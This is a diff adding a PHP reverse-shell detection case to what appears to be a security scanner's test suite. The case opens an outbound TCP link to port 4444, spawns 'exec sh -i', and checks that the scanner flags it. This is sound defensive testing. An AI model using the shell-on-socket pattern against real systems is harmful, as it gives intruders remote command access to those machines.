@@ -251,6 +251,28 @@ def shell_on_socket():
 
 
 @case
+def shell_by_php():
+    """a shell that PHP feeds from its connection is seen, one that PHP merely runs is not"""
+    code = """
+        $link = %s;
+        $shell = proc_open("COMMAND", [["pipe", "r"], ["pipe", "w"], ["pipe", "w"]], $pipes);
+        usleep(300000);
+        echo proc_get_status($shell)["pid"], "\\n";
+        sleep(600);
+    """ % (f"stream_socket_client('tcp://{OUTSIDE[0]}:4444', $no, $text, 5, 4, "
+           f"stream_context_create(['socket' => ['bindto' => '{HERE}:0']]))")
+    if not shutil.which("php"):
+        print("# left out: PHP is not installed")
+        return
+    for command, rule in (("exec sh -i", "process-shell-by-parent"), ("sleep 600; :", None)):
+        with running(["php", "-r", code.replace("COMMAND", command)], wait=False) as program:
+            assert select.select([program.stdout], [], [], 20)[0]
+            pid = int(program.stdout.readline())
+            found = [one for one in scan()["findings"] if f"Process {pid} of " in one["why"]]
+            assert [one["rule"] for one in found] == ([rule] if rule else []), found
+
+
+@case
 def shell_on_local_socket():
     """a shell on a socket that is no connection to elsewhere is let be"""
     first, second = socket.socketpair()
